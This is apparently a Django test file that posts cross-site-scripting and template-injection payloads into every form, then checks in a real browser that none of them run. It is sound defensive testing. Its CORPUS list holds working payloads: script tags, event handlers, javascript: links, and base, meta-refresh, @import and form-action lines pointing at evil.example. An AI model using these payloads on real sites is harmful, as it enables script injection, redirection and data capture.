"""Markup, scripts and templates in every box of every form; then each page in a real browser: none of it runs."""

import random
from collections.abc import Iterator

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Browser, Page

from people.models import User
from tests import factories
from tests.journeys.test_every_page import Tourist
from tests.test_bad_input import Fields, sensible
from tests.test_doors import DOORS, ROLES, furnish, is_open

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.proof]
CORPUS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1) data-ran>',
    "'><svg/onload=alert(1) data-ran>",
    "</textarea></title></style></script><script data-ran>alert(1)</script>",
    "javascript:alert(1)//http://x.example",
    "<a href='javascript:alert(1)' data-ran>press</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>' data-ran></iframe>",
    "<form action=https://evil.example data-ran><input name=q autofocus onfocus=alert(1)></form>",
    "{{ 7|add:7 }}{% load static %}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "<style data-ran>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example data-ran><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext></p><img src=x onerror=alert(1) data-ran>",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
    "\\\";alert(1);//' onmouseover='alert(1)' data-ran='",
    "<!--><img src=x onerror=alert(1) data-ran>--><![CDATA[<script>alert(1)</script>]]>",
]
# What of a page would be there only if something typed had become markup.
RAN = """() => document.querySelectorAll('[data-ran], [onerror], [onload], [onfocus], [onmouseover], iframe, base,'
    + ' script:not([src]):not([type="application/json"]), style, meta[http-equiv], a[href^="javascript:"],'
    + ' form[action^="http"]').length"""


class Watch(Tourist):
    """Looks at each page for what ran, was refused by the policy, or became an element."""

    def examine(self, address: str) -> None:
        if found := self.page.evaluate(RAN):
            self.problems.append(f"{address}: {found} elements of what was typed")


@pytest.fixture
def watched(site: str, browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A browser that notes each dialog and each address that is not ours."""
    context = browser.new_context(locale="en-GB", timezone_id="Europe/London")
    context.set_default_timeout(20_000)
    page, seen = context.new_page(), []
    page.on("dialog", lambda dialog: (seen.append(f"{page.url}: dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda asked: asked.url.startswith((site, "data:")) or seen.append(f"asked for {asked.url}"))
    yield page, seen
    context.close()


def typed_everywhere() -> int:
    """Post every form, as the first role that may, with the corpus in its free boxes. How many were taken."""
    luck, taken = random.Random(20_261_201), 0
    for name, door in DOORS.items():
        role = next(
            (role for role in ROLES if (role in door.acts if door.acts is not None else is_open(door, role))), None
        )
        if role is None or name.startswith(("healthz", "readyz", "favicon")):
            continue
        client = Client(raise_request_exception=False)
        client.force_login(User.objects.get(email=ROLES[role]), backend=settings.AUTHENTICATION_BACKENDS[0])
        try:
            address = reverse(name, kwargs=door.where())
        except AssertionError:
            continue  # an earlier form used the thing up
        shown = client.get(address)
        if shown.streaming:
            shown.close()
            continue  # a file
        fields = Fields(shown.content.decode("utf-8", "replace")).page
        body = {box: sensible(box, fields, luck) for box, kind in fields.kinds.items() if kind != "file"}
        for box, kind in fields.kinds.items():
            if kind in ("textarea", "text", "input"):
                body[box] = [luck.choice(CORPUS) if body[box][:1] == ["He shouted at the desk."] else body[box][0]]
        taken += bool(fields.kinds) and client.post(address, body).status_code == 302
    return taken


def test_nothing_that_was_typed_runs(
    site: str, watched: tuple[Page, list[str]], transactional_db: None, empty_queue: object
):
    page, seen = watched
    factories.town(timezone.now())
    furnish()
    officer = Client()
    officer.force_login(User.objects.get(email=ROLES["officer"]), backend=settings.AUTHENTICATION_BACKENDS[0])
    for words in CORPUS:
        officer.post(
            reverse("people:add"), {"name": words, "relation": "tenant", "lines": words, "postcode": "CT16 1LW"}
        )
    assert typed_everywhere() > 15
    problems: list[str] = []
    for email in ROLES.values():
        client = Client()
        client.force_login(User.objects.get(email=email), backend=settings.AUTHENTICATION_BACKENDS[0])
        name = settings.SESSION_COOKIE_NAME
        page.context.clear_cookies()
        page.context.add_cookies([{"name": name, "value": client.cookies[name].value, "url": site}])
        guest = Watch(page, site)
        guest.tour("/")
        if client.get("/register/?q=script").status_code == 200:  # what was typed may have taken a role away
            guest.tour("/register/?q=script")
        problems += [f"{email}: {problem}" for problem in guest.problems]
    assert seen == [] and problems == [], "\n".join([*seen, *dict.fromkeys(problems)])
